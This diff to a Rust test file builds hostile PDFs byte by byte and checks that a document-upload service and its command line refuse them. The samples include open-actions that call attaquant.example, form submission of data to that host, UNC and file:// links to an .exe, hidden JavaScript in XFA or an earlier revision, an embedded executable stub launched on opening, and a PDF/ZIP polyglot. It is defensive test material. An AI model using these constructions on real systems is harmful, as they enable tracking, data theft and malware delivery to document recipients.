@@ -1,13 +1,14 @@
 //! Issue 15, hostile files: a sealed PDF or an audit pack forged to crash `parafe verify` or to
-//! exhaust its memory (items 7 and 14). Each is
+//! exhaust its memory (items 7 and 14), active PDFs filed as justificatifs (item 11). Each is
 //! refused in French, with exit code 2 or a 4xx, in bounded memory, and nothing is written.
 //!
 //! The files are made as an attacker would: bytes written by hand, a pack rewritten entry by
 //! entry, a ZIP appended by Python's `zipfile`, a PDF signed by pyHanko.
 
-use crate::pack::{lire_zip, reecrire_zip};
-use crate::service::Plie;
+use crate::pack::{deposer_http, lire_zip, reecrire_zip, traces};
+use crate::service::{participant_ref, Plie};
 use crate::support::{parafe, repo, sha256_hex, text, tool};
+use reqwest::StatusCode;
 use serde_json::{json, Value};
 use std::io::Write;
 use std::path::Path;
@@ -380,4 +381,355 @@ fn verify_d_un_pack_piege_en_memoire_bornee() {
             pack.display()
         );
     }
+}
+
+/// A PDF written byte by byte: a catalog (`catalogue` adds entries to it), one page
+/// (`page` adds entries to it) with a line of text, then `autres` as objects 6, 7…, each a
+/// dictionary or, with data, a stream. Cross-reference table and trailer computed.
+fn pdf_ecrit(catalogue: &str, page: &str, autres: &[(&str, Option<&[u8]>)]) -> Vec<u8> {
+    let texte = b"BT /F1 14 Tf 72 720 Td (Bulletin de salaire - septembre 2025) Tj ET".as_slice();
+    let mut objets: Vec<(String, Option<&[u8]>)> = vec![
+        (format!("<< /Type /Catalog /Pages 2 0 R {catalogue} >>"), None),
+        ("<< /Type /Pages /Kids [3 0 R] /Count 1 >>".into(), None),
+        (format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> {page} >>"), None),
+        ("<< >>".into(), Some(texte)),
+        ("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".into(), None),
+    ];
+    objets.extend(autres.iter().map(|(d, f)| (d.to_string(), *f)));
+    let mut pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
+    let mut offsets = Vec::new();
+    for (i, (dict, flux)) in objets.iter().enumerate() {
+        offsets.push(pdf.len());
+        writeln!(pdf, "{} 0 obj", i + 1).unwrap();
+        match flux {
+            None => pdf.extend_from_slice(dict.as_bytes()),
+            Some(donnees) => {
+                let dict = dict.trim_end_matches(">>");
+                write!(pdf, "{dict} /Length {} >>\nstream\n", donnees.len()).unwrap();
+                pdf.extend_from_slice(donnees);
+                pdf.extend_from_slice(b"\nendstream");
+            }
+        }
+        pdf.extend_from_slice(b"\nendobj\n");
+    }
+    let xref = pdf.len();
+    write!(pdf, "xref\n0 {}\n0000000000 65535 f \n", objets.len() + 1).unwrap();
+    for o in offsets {
+        writeln!(pdf, "{o:010} 00000 n ").unwrap();
+    }
+    write!(
+        pdf,
+        "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
+        objets.len() + 1
+    )
+    .unwrap();
+    pdf
+}
+
+/// Object `id` as an object stream would hold it, with the cross-reference stream of a
+/// revision: `objets` are written in clear at their offsets (number, text), `dans_flux` go into
+/// one uncompressed object stream, `libres` are freed; `prev` chains to the revision before.
+fn revision_avec_flux(
+    base: &[u8],
+    objets: &[(u32, &str)],
+    dans_flux: &[(u32, &str)],
+    libres: &[u32],
+    taille: u32,
+    prev: Option<usize>,
+) -> Vec<u8> {
+    let mut pdf = base.to_vec();
+    let mut entrees: Vec<(u32, u8, u64, u16)> = Vec::new();
+    if prev.is_none() {
+        entrees.push((0, 0, 0, 65535));
+    }
+    for (id, corps) in objets {
+        entrees.push((*id, 1, pdf.len() as u64, 0));
+        write!(pdf, "{id} 0 obj\n{corps}\nendobj\n").unwrap();
+    }
+    let conteneur = taille;
+    if !dans_flux.is_empty() {
+        let mut index = String::new();
+        let mut corps = String::new();
+        for (i, (id, texte)) in dans_flux.iter().enumerate() {
+            index += &format!("{id} {} ", corps.len());
+            corps += texte;
+            corps += "\n";
+            entrees.push((*id, 2, u64::from(conteneur), i as u16));
+        }
+        entrees.push((conteneur, 1, pdf.len() as u64, 0));
+        let contenu = format!("{index}\n{corps}");
+        write!(
+            pdf,
+            "{conteneur} 0 obj\n<< /Type /ObjStm /N {} /First {} /Length {} >>\nstream\n{contenu}\nendstream\nendobj\n",
+            dans_flux.len(),
+            index.len() + 1,
+            contenu.len()
+        )
+        .unwrap();
+    }
+    for id in libres {
+        entrees.push((*id, 0, 0, 1));
+    }
+    let xref_id = conteneur + 1;
+    let xref = pdf.len();
+    entrees.push((xref_id, 1, xref as u64, 0));
+    entrees.sort();
+    let mut donnees = Vec::new();
+    let mut index = String::new();
+    for (id, genre, champ, generation) in &entrees {
+        index += &format!("{id} 1 ");
+        donnees.push(*genre);
+        donnees.extend_from_slice(&(*champ as u32).to_be_bytes());
+        donnees.extend_from_slice(&generation.to_be_bytes());
+    }
+    let prev = prev.map(|p| format!("/Prev {p}")).unwrap_or_default();
+    write!(
+        pdf,
+        "{xref_id} 0 obj\n<< /Type /XRef /Size {} /Root 1 0 R /W [1 4 2] /Index [{index}] {prev} /Length {} >>\nstream\n",
+        xref_id + 1,
+        donnees.len()
+    )
+    .unwrap();
+    pdf.extend_from_slice(&donnees);
+    write!(pdf, "\nendstream\nendobj\nstartxref\n{xref}\n%%EOF\n").unwrap();
+    pdf
+}
+
+/// `startxref` of a PDF.
+fn startxref(pdf: &[u8]) -> usize {
+    let texte = String::from_utf8_lossy(&pdf[pdf.len() - 64..]).into_owned();
+    let apres = texte.rsplit("startxref").next().unwrap();
+    apres.split_whitespace().next().unwrap().parse().unwrap()
+}
+
+/// Objects 1 to 5 of [`pdf_ecrit`], as texts.
+const PAGE: [&str; 4] = [
+    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [] /Resources << /Font << /F1 5 0 R >> >> >>",
+    "<< >>",
+    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+];
+
+/// What a controller's viewer could run or follow, and the French words its refusal must say.
+pub fn pdf_actifs(travail: &Path) -> Vec<(&'static str, Vec<u8>, &'static str)> {
+    let mz: &[u8] = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode.";
+    let uri = pdf_ecrit(
+        "/OpenAction 6 0 R",
+        "",
+        &[(
+            "<< /S /URI /URI (http://attaquant.example/pixel?piece=42) >>",
+            None,
+        )],
+    );
+    // The same through qpdf, its objects packed in a compressed object stream.
+    let entree = travail.join("uri.pdf");
+    let sortie = travail.join("uri-flux.pdf");
+    std::fs::write(&entree, &uri).unwrap();
+    let out = tool(
+        "qpdf",
+        &["--object-streams=generate", &s(&entree), &s(&sortie)],
+    );
+    assert!(
+        out.status.code().is_some_and(|c| c == 0 || c == 3),
+        "qpdf : {}",
+        text(&out.stderr)
+    );
+    let uri_flux = std::fs::read(&sortie).unwrap();
+    // A benign PDF with a ZIP appended by Python's zipfile: both a PDF and an archive.
+    let polyglotte = travail.join("polyglotte.pdf");
+    std::fs::write(&polyglotte, pdf_ecrit("", "", &[])).unwrap();
+    let out = tool(
+        "python3",
+        &[
+            "-c",
+            "import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'a') as z: z.writestr('facture.exe', b'MZ' + bytes(200))",
+            &s(&polyglotte),
+        ],
+    );
+    assert!(out.status.success(), "python : {}", text(&out.stderr));
+    // JavaScript run on opening in a first revision, inside an object stream and behind an
+    // escaped name; a second revision drops it from the catalog and frees it.
+    let mut base = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
+    let page: Vec<(u32, &str)> = PAGE
+        .iter()
+        .enumerate()
+        .map(|(i, t)| (i as u32 + 2, *t))
+        .collect();
+    let mut premiere: Vec<(u32, &str)> =
+        vec![(1, "<< /Type /Catalog /Pages 2 0 R /Open#41ction 6 0 R >>")];
+    premiere.extend(page);
+    base = revision_avec_flux(
+        &base,
+        &premiere,
+        &[(
+            6,
+            "<< /S /J#61vaScript /JS (app.launchURL\\(\"http://attaquant.example\"\\)) >>",
+        )],
+        &[],
+        7,
+        None,
+    );
+    let precedente = startxref(&base);
+    let cachee = revision_avec_flux(
+        &base,
+        &[(1, "<< /Type /Catalog /Pages 2 0 R >>")],
+        &[],
+        &[6],
+        9,
+        Some(precedente),
+    );
+    vec![
+        ("ouverture-adresse.pdf", uri, "/URI"),
+        ("ouverture-adresse-flux.pdf", uri_flux, "/URI"),
+        (
+            "formulaire-envoye.pdf",
+            pdf_ecrit(
+                "/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attaquant.example/collecte) >> /Flags 4 >>",
+                "",
+                &[],
+            ),
+            "/SubmitForm",
+        ),
+        (
+            "partage-reseau.pdf",
+            pdf_ecrit(
+                "/OpenAction << /S /GoToR /F (\\\\\\\\attaquant.example\\\\partage\\\\piece.pdf) /D [0 /Fit] >>",
+                "",
+                &[],
+            ),
+            "/GoToR",
+        ),
+        (
+            "lien-partage.pdf",
+            pdf_ecrit(
+                "",
+                "/Annots [6 0 R]",
+                &[("<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (file://attaquant.example/partage/piece.exe) >> >>", None)],
+            ),
+            "/URI",
+        ),
+        (
+            "formulaire-xfa.pdf",
+            pdf_ecrit(
+                "/AcroForm << /Fields [] /XFA 6 0 R >>",
+                "",
+                &[("<< >>", Some(b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event activity=\"initialize\"><script contentType=\"application/x-javascript\">app.launchURL(\"http://attaquant.example\")</script></event></subform></template></xdp:xdp>"))],
+            ),
+            "XFA",
+        ),
+        (
+            "piece-jointe.pdf",
+            pdf_ecrit(
+                "/Names << /EmbeddedFiles << /Names [(facture.exe) 6 0 R] >> >>",
+                "",
+                &[
+                    ("<< /Type /Filespec /F (facture.exe) /EF << /F 7 0 R >> >>", None),
+                    ("<< /Type /EmbeddedFile >>", Some(mz)),
+                ],
+            ),
+            "fichier joint",
+        ),
+        (
+            "executable-lance.pdf",
+            pdf_ecrit(
+                "/OpenAction << /S /Launch /F 6 0 R >>",
+                "",
+                &[
+                    ("<< /Type /Filespec /F (facture.exe) /EF << /F 7 0 R >> >>", None),
+                    ("<< /Type /EmbeddedFile >>", Some(mz)),
+                ],
+            ),
+            "/Launch",
+        ),
+        (
+            "polyglotte.pdf",
+            std::fs::read(&polyglotte).unwrap(),
+            "archive ZIP",
+        ),
+        ("revision-cachee.pdf", cachee, "révision"),
+    ]
+}
+
+/// PDFs that must still be accepted: a link to a web page, opening at a page of the document.
+fn pdf_sages() -> Vec<(&'static str, Vec<u8>)> {
+    vec![
+        (
+            "lien-web.pdf",
+            pdf_ecrit(
+                "/OpenAction [3 0 R /Fit]",
+                "/Annots [6 0 R]",
+                &[("<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.plie-paysdelor.fr/contact) >> >>", None)],
+            ),
+        ),
+        (
+            "ouverture-page.pdf",
+            pdf_ecrit("/OpenAction << /S /GoTo /D [3 0 R /XYZ 0 842 0] >>", "", &[]),
+        ),
+    ]
+}
+
+#[test]
+fn les_pdf_actifs_sont_refuses_au_depot_par_l_api_et_la_ligne_de_commande() {
+    let Plie {
+        dir,
+        mut service,
+        referent,
+        ..
+    } = Plie::pret(None);
+    let samira = participant_ref(&service, &referent, "Benali");
+    let travail = dir.path().join("pieces");
+    std::fs::create_dir_all(&travail).unwrap();
+    let champs = [
+        ("participant", samira.as_str()),
+        ("genre", "bulletin-salaire"),
+    ];
+    let avant = traces(&service, &referent, &samira);
+    let actifs = pdf_actifs(&travail);
+    for (nom, octets, attendu) in &actifs {
+        let (status, v) = deposer_http(&service, &referent, &champs, (nom, octets));
+        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{nom} : {v}");
+        let erreur = v["erreur"].as_str().unwrap_or_default();
+        assert!(
+            erreur.contains(attendu) && erreur.contains(nom),
+            "{nom} : {erreur}"
+        );
+        assert_eq!(
+            traces(&service, &referent, &samira),
+            avant,
+            "{nom} a laissé une trace"
+        );
+    }
+    for (nom, octets) in pdf_sages() {
+        let (status, v) = deposer_http(&service, &referent, &champs, (nom, &octets));
+        assert_eq!(status, StatusCode::CREATED, "{nom} : {v}");
+    }
+    let apres = traces(&service, &referent, &samira);
+
+    // The command line, with the service stopped: the same refusals, exit code 2.
+    service.tuer();
+    let data = s(&service.data);
+    for (nom, octets, attendu) in &actifs {
+        let chemin = travail.join(nom);
+        std::fs::write(&chemin, octets).unwrap();
+        let out = parafe(&[
+            "justificatif",
+            "deposer",
+            &s(&chemin),
+            "--operation",
+            "202500417",
+            "--participant",
+            &samira,
+            "--genre",
+            "bulletin-salaire",
+            "--par",
+            "t.garnier@plie.fr",
+            "--data-dir",
+            &data,
+        ]);
+        let err = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{nom} : {err}");
+        assert!(err.contains(attendu), "{nom} : {err}");
+    }
+    service.redemarrer();
+    assert_eq!(traces(&service, &referent, &samira), apres);
 }
